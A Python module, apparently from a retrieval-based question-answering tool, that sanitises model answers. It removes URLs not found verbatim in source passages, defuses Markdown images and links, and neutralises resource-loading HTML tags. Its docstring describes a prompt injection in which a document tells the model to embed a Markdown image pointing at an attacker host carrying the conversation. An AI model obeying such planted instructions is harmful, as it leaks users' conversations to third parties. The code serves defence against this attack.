"""Links in answers: only those the passages (or the question) already hold, and never an image.

A document can ask the model to add `![x](https://attacker/?q=<the conversation>)`: a page that
renders the answer as Markdown would fetch that image with no click, and Slack would unfurl a
link. So kb, not the model, decides what links an answer may carry:

- a URL is kept only when it appears verbatim in a passage given to the model or in the
  question, so it carries nothing the reader could not already see; any other is removed;
- Markdown images and links become plain text, the kept URL in brackets after the text, so the
  reader sees where a link goes; HTML tags that load resources (`<img`, `<iframe`…) are made
  inert.

`LinkGuard` applies the same to streamed text, whole words at a time. It does not judge
whether a verbatim URL is trustworthy: a document's own link is shown as the document has it.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

_URL = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]*:)?//[^\s<>\"'`()\[\]]+|\bwww\.[^\s<>\"'`()\[\]]+", re.IGNORECASE
)
_MARKDOWN_LINK = re.compile(r"!?\[([^\[\]\n]*)\]\(\s*<?([^()\s<>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_RESOURCE_TAG = re.compile(
    r"<(?=/?(?:img|image|iframe|frame|video|audio|source|track|embed|object|link|script|style"
    r"|svg|input|body|meta|picture|form)\b)",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?"
REMOVED = "(link removed)"


def _allowed(url: str, sources: Sequence[str]) -> bool:
    return any(url in source for source in sources)


def _bare_url(match: re.Match[str], sources: Sequence[str]) -> str:
    whole = match.group(0)
    url = whole.rstrip(_TRAILING)
    tail = whole[len(url) :]
    return (url if _allowed(url, sources) else REMOVED) + tail


def _markdown_link(match: re.Match[str]) -> str:
    text, url = match.group(1).strip(), match.group(2)
    if not url:
        return text
    return f"{text} ({url})" if text else url


def defuse_links(text: str, sources: Sequence[str]) -> str:
    """`text` with images and Markdown links as plain text, resource-loading HTML tags inert,
    and every URL that no source holds verbatim replaced by "(link removed)"."""
    plain = _MARKDOWN_LINK.sub(_markdown_link, text).replace("![", "[")
    plain = _RESOURCE_TAG.sub("‹", plain)
    return _URL.sub(lambda match: _bare_url(match, sources), plain)


class LinkGuard:
    """`defuse_links` over a stream: text is passed on up to its last whitespace, so a URL or a
    Markdown link is judged whole (neither holds a space) before any of it is shown."""

    def __init__(self, sources: Sequence[str]):
        self._sources = list(sources)
        self._pending = ""

    def feed(self, piece: str) -> str:
        """Take the next streamed piece; return the defused text up to its last whitespace."""
        self._pending += piece
        cut = max(self._pending.rfind(" "), self._pending.rfind("\n")) + 1
        ready, self._pending = self._pending[:cut], self._pending[cut:]
        return self._defuse(ready)

    def flush(self) -> str:
        """Defused text still held back, at the end of the stream."""
        ready, self._pending = self._pending, ""
        return self._defuse(ready)

    def _defuse(self, text: str) -> str:
        return defuse_links(text, self._sources) if text else ""
